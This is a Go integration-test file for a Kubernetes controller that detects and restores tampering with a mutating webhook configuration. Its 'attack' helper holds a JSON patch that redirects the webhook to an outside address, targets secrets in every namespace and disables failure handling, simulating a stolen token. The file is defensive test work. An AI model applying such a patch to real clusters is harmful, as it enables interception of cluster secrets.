package controllers

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	v1 "k8s.io/api/admissionregistration/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/cache"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/manager"
	"sigs.k8s.io/controller-runtime/pkg/metrics/server"

	"github.com/pipeline-storage/pipeline-storage/internal/drift"
	"github.com/pipeline-storage/pipeline-storage/test/suite"
)

// soon is long enough to see a difference before it is repaired, and short enough to wait for.
const soon = 3 * time.Second

// webhooks is what the chart renders, less what values add. They select the pods of no namespace
// that exists, because their Service has no endpoints.
const webhooks = `webhooks:
  - name: storage.pipeline-storage.io
    clientConfig:
      service: {name: ps, namespace: storage, path: /inject, port: 443}
    rules:
      - {apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods], scope: Namespaced}
    failurePolicy: Fail
    matchPolicy: Equivalent
    objectSelector: {matchLabels: {pipeline-storage: enabled}}
    namespaceSelector:
      matchExpressions:
        - {key: kubernetes.io/metadata.name, operator: In, values: [never-there]}
    matchConditions:
      - {name: no-mirror-pod, expression: "true"}
    reinvocationPolicy: IfNeeded
    sideEffects: None
    timeoutSeconds: 5
    admissionReviewVersions: [v1]
`

// driftFixture is an installation: an object, the file it was made of, and a ServiceAccount with the
// chart's rights.
type driftFixture struct {
	client.Client
	t       *testing.T
	name    string
	file    string
	limited *rest.Config
}

// newDriftFixture installs the webhooks, with the annotation or without. The rights are those of
// clusterrole.yaml for the certificate mode: patch is false for certManager.
func newDriftFixture(t *testing.T, annotated, patch bool) *driftFixture {
	t.Helper()
	t.Parallel()
	root := suite.RESTConfig(t)
	c, err := client.New(root, client.Options{Scheme: clientgoscheme.Scheme})
	require.NoError(t, err)
	f := &driftFixture{
		Client: c, t: t, name: strings.ToLower(t.Name()), file: filepath.Join(t.TempDir(), "webhooks.yaml"),
		limited: rest.CopyConfig(root),
	}
	f.limited.Impersonate = rest.ImpersonationConfig{UserName: f.name, Groups: []string{"system:authenticated"}}
	f.allow(patch)

	object := f.configuration()
	if annotated {
		object.Annotations = map[string]string{drift.AnnotationInstalled: expected(t, webhooks).Hash}
	}
	object.Webhooks = expected(t, webhooks).Webhooks
	require.NoError(t, c.Create(t.Context(), object, client.FieldOwner("helm")))
	t.Cleanup(func() { assert.NoError(t, client.IgnoreNotFound(c.Delete(context.Background(), f.configuration()))) })
	return f
}

func expected(t *testing.T, text string) *drift.Expected {
	t.Helper()
	e, err := drift.Parse([]byte(text))
	require.NoError(t, err)
	return e
}

func (f *driftFixture) configuration() *v1.MutatingWebhookConfiguration {
	return &v1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{
		Name:   f.name,
		Labels: map[string]string{"app.kubernetes.io/name": "pipeline-storage"},
	}}
}

func (f *driftFixture) allow(patch bool) {
	rules := []rbacv1.PolicyRule{
		{
			APIGroups: []string{v1.GroupName}, Resources: []string{"mutatingwebhookconfigurations"},
			Verbs: []string{"get", "list", "watch"},
		},
		{APIGroups: []string{eventsv1.GroupName}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
	}
	if patch {
		rules = append(rules, rbacv1.PolicyRule{
			APIGroups: []string{v1.GroupName}, Resources: []string{"mutatingwebhookconfigurations"},
			ResourceNames: []string{f.name}, Verbs: []string{"patch"},
		})
	}
	meta := metav1.ObjectMeta{Name: f.name}
	for _, object := range []client.Object{
		&rbacv1.ClusterRole{ObjectMeta: meta, Rules: rules},
		&rbacv1.ClusterRoleBinding{
			ObjectMeta: meta, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: f.name},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: f.name}},
		},
	} {
		require.NoError(f.t, f.Create(f.t.Context(), object))
	}
}

// write replaces the file that the replica reads.
func (f *driftFixture) write(text string) {
	f.t.Helper()
	require.NoError(f.t, os.WriteFile(f.file, []byte(text), 0o600))
}

// run starts a replica that ends with the test. Its file comes after the first comparison, so that
// the note shows when that has ended, and when another one has found no difference.
func (f *driftFixture) run(change ...func(*drift.Options)) *drift.Watcher {
	f.t.Helper()
	scheme := runtime.NewScheme()
	require.NoError(f.t, clientgoscheme.AddToScheme(scheme))
	mgr, err := manager.New(f.limited, manager.Options{
		Scheme: scheme, Metrics: server.Options{BindAddress: "0"},
		Cache: cache.Options{DefaultTransform: cache.TransformStripManagedFields()},
	})
	require.NoError(f.t, err)
	o := drift.Options{
		File: f.file, WebhookConfiguration: f.name, Repair: true, RepairAfter: soon, Grace: soon,
		Poll: 100 * time.Millisecond,
	}
	for _, c := range change {
		c(&o)
	}
	w, err := drift.Add(mgr, o)
	require.NoError(f.t, err)

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- mgr.Start(ctx) }()
	f.t.Cleanup(sync.OnceFunc(func() { cancel(); assert.NoError(f.t, <-done) }))
	require.Eventually(f.t, func() bool { return w.Note() != "" }, timeout, poll, "there is no file")
	f.write(webhooks)
	require.Eventually(f.t, func() bool { return w.Note() == "" }, timeout, poll, "nothing differs")
	return w
}

// thief returns a client with the stolen token.
func (f *driftFixture) thief() client.Client {
	f.t.Helper()
	c, err := client.New(f.limited, client.Options{Scheme: clientgoscheme.Scheme})
	require.NoError(f.t, err)
	return c
}

// attack points the webhook at another server, for secrets of every namespace.
func (f *driftFixture) attack(c client.Client) error {
	text := []byte(`[
		{"op": "remove", "path": "/webhooks/0/clientConfig/service"},
		{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://203.0.113.1/"},
		{"op": "replace", "path": "/webhooks/0/rules/0/resources", "value": ["secrets"]},
		{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"},
		{"op": "replace", "path": "/webhooks/0/objectSelector", "value": {}},
		{"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {"matchLabels": {"never": "there"}}}
	]`)
	return c.Patch(f.t.Context(), f.configuration(), client.RawPatch(types.JSONPatchType, text))
}

// byHand is the next step where nothing is restored.
const byHand = "find out who changed it, and install it again"

const attacked = "webhook storage.pipeline-storage.io: clientConfig.url, clientConfig.service, rules, " +
	"failurePolicy, namespaceSelector, objectSelector"

func (f *driftFixture) differences() []string {
	f.t.Helper()
	live := f.configuration()
	require.NoError(f.t, f.Get(f.t.Context(), client.ObjectKeyFromObject(live), live))
	return expected(f.t, webhooks).Differences(live.Webhooks)
}

// event waits for an Event and returns its note.
func (f *driftFixture) event(reason string) string {
	f.t.Helper()
	var note string
	require.Eventually(f.t, func() bool { note = f.sent(reason); return note != "" }, timeout, poll, "an Event %s", reason)
	return note
}

func (f *driftFixture) sent(reason string) string {
	f.t.Helper()
	var list eventsv1.EventList
	require.NoError(f.t, f.List(f.t.Context(), &list, client.InNamespace(metav1.NamespaceDefault)))
	for _, e := range list.Items {
		if e.Regarding.Name == f.name && e.Reason == reason {
			return e.Note
		}
	}
	return ""
}

func TestStolenTokenIsReportedAndUndone(t *testing.T) {
	f := newDriftFixture(t, true, true)
	bundle := []byte(`[{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "` + caBundle(t) + `"}]`)
	require.NoError(t, f.Patch(t.Context(), f.configuration(), client.RawPatch(types.JSONPatchType, bundle)))
	w := f.run()

	require.NoError(t, f.attack(f.thief()))
	require.Eventually(t, func() bool { return w.Note() != "" }, timeout, poll)
	assert.Contains(t, w.Note(),
		"MutatingWebhookConfiguration "+f.name+" differs from the installed one ("+attacked+"): "+
			"the leader restores it; find out who changed it")
	assert.Contains(t, f.event(drift.ReasonDrift), attacked)

	require.Eventually(t, func() bool { return len(f.differences()) == 0 }, timeout, poll, "it is restored")
	require.Eventually(t, func() bool { return w.Note() == "" }, timeout, poll)
	assert.Contains(t, f.event("WebhookConfigurationRestored"), attacked)

	live := f.configuration()
	require.NoError(t, f.Get(t.Context(), client.ObjectKeyFromObject(live), live))
	encoded, err := json.Marshal(live.Webhooks[0].ClientConfig.CABundle)
	require.NoError(t, err)
	assert.Equal(t, caBundle(t), strings.Trim(string(encoded), `"`), "the caBundle is another package's")
	upgrade := fmt.Appendf(nil, `{
		"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
		"metadata": {"name": %q},
		"webhooks": [{"name": "storage.pipeline-storage.io", "failurePolicy": "Ignore"}]}`, f.name)
	require.NoError(t, f.Patch(t.Context(), f.configuration(), client.RawPatch(types.ApplyPatchType, upgrade),
		client.FieldOwner("helm4")),
		"the next upgrade by server-side apply finds no other owner of a restored field")
}

// What a cloud adds to every webhook is a note, and nothing to restore.
func TestExclusionsOfACloudAreNoDrift(t *testing.T) {
	f := newDriftFixture(t, true, true)
	w := f.run()
	exclude := []byte(`[{"op": "add", "path": "/webhooks/0/namespaceSelector/matchExpressions/0",
		"value": {"key": "kubernetes.azure.com/managedby", "operator": "NotIn", "values": ["aks"]}}]`)
	require.NoError(t, f.Patch(t.Context(), f.configuration(), client.RawPatch(types.JSONPatchType, exclude)))
	require.Eventually(t, func() bool { return w.Note() != "" }, timeout, poll)
	assert.Equal(t, "the cluster also excludes namespaces by the labels kubernetes.azure.com/managedby", w.Note())

	// A repair of something else leaves it.
	require.NoError(t, f.Patch(t.Context(), f.configuration(), client.RawPatch(types.JSONPatchType,
		[]byte(`[{"op": "replace", "path": "/webhooks/0/timeoutSeconds", "value": 30}]`))))
	require.Eventually(t, func() bool { return strings.Contains(w.Note(), "timeoutSeconds") }, timeout, poll)
	require.Eventually(t, func() bool { return len(f.differences()) == 0 }, timeout, poll, "it is restored")
	require.Eventually(t, func() bool { return strings.HasPrefix(w.Note(), "the cluster also excludes") }, timeout, poll)
}

// caBundle is base64 of any certificate, which the API server checks.
func caBundle(t *testing.T) string {
	t.Helper()
	text, err := json.Marshal(suite.RESTConfig(t).CAData)
	require.NoError(t, err)
	return strings.Trim(string(text), `"`)
}

// A replica whose file is older, or newer, than the object reports after a while, and never
// restores.
func TestAnUpgradeIsNotUndone(t *testing.T) {
	f := newDriftFixture(t, true, true)
	w := f.run()
	newer := strings.Replace(webhooks, "timeoutSeconds: 5", "timeoutSeconds: 9", 1)
	object := f.configuration()
	require.NoError(t, f.Get(t.Context(), client.ObjectKeyFromObject(object), object))
	object.Annotations[drift.AnnotationInstalled], object.Webhooks = expected(t, newer).Hash, expected(t, newer).Webhooks
	require.NoError(t, f.Update(t.Context(), object, client.FieldOwner("helm")))

	require.Eventually(t, func() bool { return strings.Contains(w.Note(), "timeoutSeconds") }, timeout, poll)
	assert.Contains(t, w.Note(), "it was installed with another version of this replica's file")
	assert.Empty(t, f.sent(drift.ReasonDrift), "during an upgrade the file comes later")
	assert.Contains(t, f.event(drift.ReasonDrift), "timeoutSeconds", "later it is reported")
	time.Sleep(soon)
	assert.NotEmpty(t, f.differences(), "it is not restored")

	f.write(newer)
	require.Eventually(t, func() bool { return w.Note() == "" }, timeout, poll, "the file has arrived")
}

// In the mode certManager the token has no right to patch, so there is nothing to undo; others who
// change it are reported.
func TestWithoutTheRightToPatch(t *testing.T) {
	f := newDriftFixture(t, true, false)
	w := f.run(func(o *drift.Options) { o.Repair = false })
	err := f.attack(f.thief())
	assert.True(t, apierrors.IsForbidden(err), "%v", err)

	require.NoError(t, f.attack(f.Client))
	require.Eventually(t, func() bool { return strings.Contains(w.Note(), attacked) }, timeout, poll)
	assert.Contains(t, w.Note(), byHand)
	assert.Contains(t, f.event(drift.ReasonDrift), byHand)
}

// Without the annotation (kustomize, or an administrator who removed it) and without the label by
// which the cache finds it.
func TestWithoutTheAnnotation(t *testing.T) {
	f := newDriftFixture(t, false, true)
	w := f.run()
	label := []byte(`{"metadata": {"labels": null}}`)
	require.NoError(t, f.thief().Patch(t.Context(), f.configuration(), client.RawPatch(types.MergePatchType, label)))
	require.NoError(t, f.attack(f.thief()))
	require.Eventually(t, func() bool { return strings.Contains(w.Note(), attacked) }, timeout, poll)
	assert.Contains(t, f.event(drift.ReasonDrift), byHand)
	time.Sleep(soon)
	assert.NotEmpty(t, f.differences(), "it is not restored")
	f.write("webhooks: {}")
	require.Eventually(t, func() bool { return strings.Contains(w.Note(), "parse the expected webhooks") }, timeout, poll)
}

// An uninstalled webhook is not created again, and is no difference.
func TestUninstalled(t *testing.T) {
	f := newDriftFixture(t, true, true)
	w := f.run()
	require.NoError(t, f.Delete(t.Context(), f.configuration()))
	time.Sleep(soon)
	assert.Empty(t, w.Note())
	assert.True(t, apierrors.IsNotFound(f.Get(t.Context(), types.NamespacedName{Name: f.name}, f.configuration())))
}
